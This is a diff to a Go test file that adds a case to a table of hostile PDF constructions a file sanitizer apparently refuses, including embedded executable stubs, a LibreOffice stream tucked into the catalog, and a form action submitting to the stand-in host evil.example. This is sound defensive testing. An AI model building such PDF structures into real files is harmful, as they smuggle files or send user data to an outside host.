@@ -211,6 +211,7 @@ func TestHarmfulPDFsAreRefused(t *testing.T) {
 		"a file as a note":                   {withPage("/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]", "<< /F (a) >>"), exchange.FileRuleEmbedded},
 		"a file behind a note":               {withPage("/Annots [<< /Subtype /Text /Rect [0 0 9 9] /FS 4 0 R >>]", "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", stream("", []byte("MZ"))), exchange.FileRuleEmbedded},
 		"a file that nothing names":          {withPage("", stream("/Type /EmbeddedFile", []byte("MZ"))), exchange.FileRuleEmbedded},
+		"a document of LibreOffice inside":   {bytes.Replace(withPage("", stream("", []byte("x"))), []byte("/Root 1 0 R"), []byte("/Root 1 0 R /AdditionalStreams [/application#2Fvnd#2Eoasis 4 0 R]"), 1), exchange.FileRuleEmbedded},
 		"a portfolio":                        {withCatalog("/Collection << /View /D >>"), exchange.FileRuleEmbedded},
 		"a form that sends":                  {withPage("/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>]"), exchange.FileRuleSubmits},
 		"a form that loads":                  {withPage("/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /A << /S /ImportData /F (a.fdf) >> >>]"), exchange.FileRuleSubmits},
